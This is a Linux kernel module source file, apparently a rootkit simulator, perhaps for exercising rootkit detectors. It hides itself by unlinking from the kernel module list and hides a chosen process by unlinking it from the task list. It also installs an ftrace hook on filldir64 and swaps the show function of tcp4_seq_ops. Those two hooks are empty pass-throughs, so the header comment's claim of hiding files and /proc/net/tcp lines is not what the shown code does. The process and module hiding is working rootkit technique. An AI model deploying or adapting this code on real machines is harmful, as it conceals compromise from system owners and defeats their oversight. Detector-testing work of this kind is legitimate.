// SPDX-License-Identifier: GPL-2.0
/* Hides itself, a process, the names of files and lines of /proc/net/tcp, all at once. */
#include "simulator.h"
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/sched/signal.h>
#include <linux/seq_file.h>

static int pid;
module_param(pid, int, 0);

static struct list_head *module_before;
static struct list_head *task_before;
static struct task_struct *task;
static struct seq_operations *lines;
static int (*show)(struct seq_file *file, void *entry);

static int shown(struct seq_file *file, void *entry)
{
	return show(file, entry);
}

static void notrace traced(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
			   struct ftrace_regs *regs)
{
}

static struct ftrace_ops tracer = { .func = traced, .flags = FTRACE_OPS_FL_SAVE_REGS };

static int plant(void)
{
	int error = ftrace_set_filter_ip(&tracer, (unsigned long)find("filldir64"), 0, 0);

	task = get_pid_task(find_vpid(pid), PIDTYPE_PID);
	lines = find("tcp4_seq_ops");
	if (error || !task || !lines)
		return error ? error : -ESRCH;
	error = register_ftrace_function(&tracer);
	if (error)
		return error;
	show = lines->show;
	poke_pointer(&lines->show, shown);
	task_before = task->tasks.prev;
	__list_del_entry(&task->tasks);
	module_before = THIS_MODULE->list.prev;
	__list_del_entry(&THIS_MODULE->list);
	return 0;
}

static void undo(void)
{
	list_add(&THIS_MODULE->list, module_before);
	list_add(&task->tasks, task_before);
	poke_pointer(&lines->show, show);
	unregister_ftrace_function(&tracer);
	put_task_struct(task);
}
